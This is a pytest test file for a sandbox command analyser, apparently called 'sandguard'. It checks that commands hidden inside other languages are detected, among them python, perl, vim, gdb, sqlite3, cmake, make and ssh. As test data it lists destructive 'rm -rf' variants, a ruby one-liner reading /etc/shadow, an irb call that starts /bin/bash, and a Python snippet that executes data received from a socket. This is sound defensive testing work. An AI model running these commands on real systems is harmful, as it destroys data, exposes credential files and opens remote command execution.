"""What is written out in a text of another language is evaluated, however the text reaches its program."""

from __future__ import annotations

import pytest

from sandguard.commands.effects import Reads, StartsShell
from tests.flow.evaluations import calls, fetched_uses, program

RUNNING = [
    "python3 -c 'import os; os.system(\"rm -rf x\")'",
    "python3 <<'E'\nimport os\nos.system('rm -rf x')\nE",
    "echo 'import os; os.system(\"rm -rf x\")' > a.py; python3 a.py",
    'perl -e \'system("rm", "-rf", "x")\'',
    "vim -c ':!rm -rf x'",
    "vim -c 'py3 import os; os.system(\"rm -rf x\")'",
    "gdb <<< '!rm -rf x'",
    "sqlite3 a.db <<< '.shell rm -rf x'",
    "echo 'execute_process(COMMAND rm -rf x)' > a.cmake; cmake -P a.cmake",
    "make --eval='$(shell rm -rf x)'",
    "ssh example.com \"perl -e 'exec q(rm -rf x)'\"",
]


@pytest.mark.parametrize("text", RUNNING)
def test_a_command_in_another_language_is_evaluated(text: str) -> None:
    """The command that the text runs is among those of the program."""
    assert any(call.partition(": ")[2] == "rm -rf x" or call == "rm -rf x" for call in calls(text))


@pytest.mark.parametrize(
    "text", ["python3 -c 'print(\"os.system(1)\")'", "vim -c ':%s/a/b/'", "gdb -ex 'info files' x"]
)
def test_other_text_runs_nothing(text: str) -> None:
    """Text that names no program adds no command."""
    assert len(calls(text)) == 1


def test_a_file_that_is_named_is_read() -> None:
    """Reading a file by a call counts as reading it by a program."""
    found = program("ruby -e 'puts File.read(\"/etc/shadow\")'")

    assert [effect.path.written.text for _, effect in found.effects(Reads)] == ["/etc/shadow"]


def test_a_shell_that_is_started_is_told() -> None:
    """A shell for somebody to type into is told as such, whatever starts it."""
    assert list(program("irb <<< 'exec \"/bin/bash\"'").effects(StartsShell))


def test_a_connection_commands_what_is_computed() -> None:
    """A script that connects and executes what is not written out runs text of the network; printing it does not."""
    connected = 'import socket, os\ns.connect(("192.0.2.1", 1))\n'

    assert fetched_uses(f"python3 -c '{connected}os.system(s.recv(9))'")
    assert not fetched_uses(f"python3 -c '{connected}print(s.recv(9))'")
